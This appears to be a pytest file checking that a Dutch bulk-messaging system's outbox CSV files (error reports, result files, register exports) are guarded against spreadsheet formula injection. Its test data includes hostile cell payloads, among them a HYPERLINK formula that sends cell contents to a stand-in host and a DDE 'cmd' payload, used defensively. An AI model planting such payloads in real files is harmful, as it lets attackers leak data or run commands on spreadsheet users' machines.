"""Every CSV kind BBX writes into a tenant's outbox, read back over SFTP as the tenant and
checked cell by cell with the OWASP rule for spreadsheet formula injection (issue 19):
no cell may start with ``=``, ``+``, ``-``, ``@``, tab or CR unless it is a plain
number. All in the one outbox dialect (``;``, UTF-8 with BOM, CR LF; issue 11 item 5).
BSNs and numbers come back unchanged; ``csvfile.unguard`` gives the raw cell back.

Real parts: the SFTP server over TCP (tenant login with chroot), PostgreSQL, intake's,
delivery's and the register's own writers."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import date

import pytest
from intake_helpers import ready, run_intake

from bbx.delivery.outbox import write_to_outbox
from bbx.delivery.results import CollectSummary, write_reports
from bbx.domain import bsn, csvfile
from bbx.register.export import export_register
from bbx.store import submissions

B = list(bsn.generate(6, seed=19))
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tverborgen", "\r=1+1", "'=al gequote"]
NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)?|[.,]\d+)")


def owasp_safe(cell: str) -> bool:
    """The OWASP rule, written out here independently of BBX's code."""
    return not cell or cell[0] not in "=+-@\t\r" or bool(NUMBER.fullmatch(cell))


def read_outbox_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM"
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and text.count("\n") == text.count("\r\n"), "CR LF line ends"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows[0]) > 1, "';' separates the columns"
    for r, row in enumerate(rows, 1):
        for c, cell in enumerate(row, 1):
            assert owasp_safe(cell), f"line {r}, column {c}: {cell!r} would run as a formula"
    return rows


@pytest.mark.dutch  # the result file's Dutch headers (regel;bsn;uitkomst;...) are checked below
def test_every_outbox_csv_kind_is_formula_safe(tenant, configured):
    db = configured
    lines = ["bsn;tekst;onderwerp;referentie"]
    lines.append(f'{B[0]};"{HOSTILE[0].replace(chr(34), chr(34) * 2)}";Gewoon;-REF-1')  # accepted
    lines.append(f"{B[1]};-2+3 is een som;@onderwerp;+31612345678")  # accepted
    lines.append(f"{B[1]};dubbel;x;=1+1")  # rejected: BSN twice in the drop
    lines.append(f"=1+1;{HOSTILE[1]};x;y")  # rejected: not a BSN
    lines.append(f"12345678;{HOSTILE[3]};'=al gequote;z")  # rejected: fails the 11-test
    tenant.upload_drop("formules", {"teksten.csv": ("\r\n".join(lines) + "\r\n").encode()},
                       marker_content=ready("WOZ2026"))
    [result] = run_intake()
    sid = result["submission_id"]
    assert result["status"] == "accepted" and result["accepted_rows"] == 2, result
    outbox = tenant.outbox()

    # 1. the error report: the tenant's own cells come back guarded, BSNs and numbers as they were
    errors = read_outbox_csv(outbox[f"formules.s{sid}.errors.csv"])
    header, *rows = errors
    assert header == ["bsn", "tekst", "onderwerp", "referentie", "regel", "reden"]  # Dutch, the default
    assert [r[0] for r in rows] == [B[1], "'=1+1", "12345678"]
    assert [csvfile.unguard(r[0]) for r in rows] == [B[1], "=1+1", "12345678"]  # the raw values
    assert [csvfile.unguard(r[1]) for r in rows] == ["dubbel", HOSTILE[1], HOSTILE[3]]
    assert [csvfile.unguard(r[2]) for r in rows] == ["x", "x", "'=al gequote"]
    assert rows[0][3] == "'=1+1" and rows[2][2] == "''=al gequote"
    assert [r[4] for r in rows] == ["4", "5", "6"]  # lines as a spreadsheet counts them

    # 2. result file and undeliverable list (reasons that look like formulas, as a remote
    # party's text could)
    batch = str(uuid.uuid4())
    db.execute("""INSERT INTO batches (id, connection_id, submission_id, batch_number, message_count, status, sent_at,
                                       first_row, last_row)
                  SELECT %s, s.connection_id, s.id, 1, 2, 'sent', now(), min(m.row_number), max(m.row_number)
                  FROM submissions s JOIN messages m ON m.submission_id = s.id WHERE s.id = %s
                  GROUP BY s.id""", (batch, sid))
    db.execute("""UPDATE messages SET outcome = 'queued', batch_id = %s
                  WHERE submission_id = %s AND outcome = 'planned'""", (batch, sid))
    db.execute("UPDATE messages SET outcome = 'sent', sent_at = now() WHERE batch_id = %s", (batch,))
    db.execute("""UPDATE messages SET outcome = 'failed', outcome_code = '-1', final_at = now(),
                  outcome_reason = %s WHERE batch_id = %s AND bsn = %s""", (HOSTILE[5], batch, B[0]))
    db.execute("""UPDATE messages SET outcome = 'delivered', outcome_code = '@Verwerkt', final_at = now()
                  WHERE batch_id = %s AND bsn = %s""", (batch, B[1]))
    assert submissions.close_if_reconciled(db, sid, actor="test")
    db.commit()
    summary = CollectSummary()
    write_reports(db, write_to_outbox, summary, submission_ids=[sid])
    assert summary.reported == [sid]
    outbox = tenant.outbox()
    results = read_outbox_csv(outbox[f"formules.s{sid}.results.csv"])
    assert results[0][:3] == ["regel", "bsn", "uitkomst"]
    by_row = {r[0]: r for r in results[1:]}
    assert by_row["1"][1] == B[0] and by_row["1"][4] == "-1"  # a number stays a number
    assert csvfile.unguard(by_row["1"][5]) == HOSTILE[5] and by_row["1"][5].startswith("'")
    assert by_row["2"][4] == "'@Verwerkt"
    paper = read_outbox_csv(outbox[f"formules.s{sid}.undeliverable.csv"])
    assert [(r[0], csvfile.unguard(r[4])) for r in paper[1:]] == [(B[0], HOSTILE[5])]

    # 3. the register export
    cid = db.execute("SELECT id FROM connections WHERE code = 'voorbeeld'").fetchone()["id"]
    db.execute("UPDATE connections SET register_export = true, register_export_scope = 'full' WHERE id = %s",
                   (cid,))
    refresh = db.execute(
        """INSERT INTO register_refreshes (connection_id, logical_date, kind, request_id, status, snapshot_at,
                                           entries, opened, closed, applied_at)
           VALUES (%s, '2026-01-01', 'full', %s, 'applied', now(), 2, 2, 0, now()) RETURNING id""",
        (cid, str(uuid.uuid4()))).fetchone()["id"]
    for b, end in ((B[2], None), (B[3], date(2026, 6, 1))):
        db.execute("""INSERT INTO register_periods (connection_id, bsn, begin_date, end_date, opened_by_refresh,
                      closed_by_refresh) VALUES (%s, %s, '2025-01-01', %s, %s, %s)""",
                   (cid, b, end, refresh, refresh if end else None))
    db.commit()
    exported = export_register("voorbeeld", date(2026, 3, 1))
    register = read_outbox_csv(tenant.outbox()[exported["path"].rsplit("/", 1)[1]])
    assert register == [["bsn", "begin_date", "end_date"],
                        *sorted([[B[2], "2025-01-01", ""], [B[3], "2025-01-01", "2026-06-01"]])]


def test_guard_and_unguard_round_trip():
    for value in [*HOSTILE, "''=x", "'plain", "plain", "", "123456782", "-12", "+3.5", "-", "=", "@"]:
        cell = csvfile.guard(value)
        assert owasp_safe(cell) and csvfile.unguard(cell) == value, value
    assert csvfile.guard(None) == "" and csvfile.guard(42) == "42" and csvfile.guard(-7) == "-7"
